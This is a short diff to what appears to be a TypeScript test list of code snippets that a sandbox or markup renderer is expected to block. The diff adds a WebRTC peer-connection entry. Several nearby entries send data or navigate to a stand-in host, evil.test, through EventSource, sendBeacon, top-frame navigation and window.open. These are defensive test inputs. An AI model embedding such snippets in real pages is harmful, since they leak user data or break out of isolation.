@@ -578,6 +578,7 @@ const inMarkup: readonly (readonly [name: string, code: string])[] = [
     'events of a server',
     'return await new Promise((end, fail) => { const s = new EventSource("https://evil.test/"); s.onopen = () => end(1); s.onerror = fail; })',
   ],
+  ['a peer connection', 'return typeof new RTCPeerConnection()'],
   ['a beacon', 'navigator.sendBeacon("https://evil.test/beacon", "a")'],
   ['the console elsewhere', 'top.location.href = "https://evil.test/top"; return 1'],
   ['a window', 'return open("https://evil.test/window")'],
